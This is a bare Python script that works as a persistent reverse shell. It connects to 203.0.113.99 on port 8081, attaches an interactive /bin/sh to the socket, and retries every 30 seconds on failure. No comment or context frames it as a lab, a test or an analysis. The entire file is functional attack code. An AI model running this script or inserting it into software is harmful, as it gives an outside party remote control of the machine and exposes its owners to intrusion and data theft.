import socket
import subprocess
import time


class Session:
    def __init__(self, addr):
        self.addr = addr

    def open(self):
        conn = socket.create_connection(self.addr)
        fd = conn.fileno()
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()
        conn.close()


while True:
    try:
        Session(("203.0.113.99", 8081)).open()
    except OSError:
        time.sleep(30)
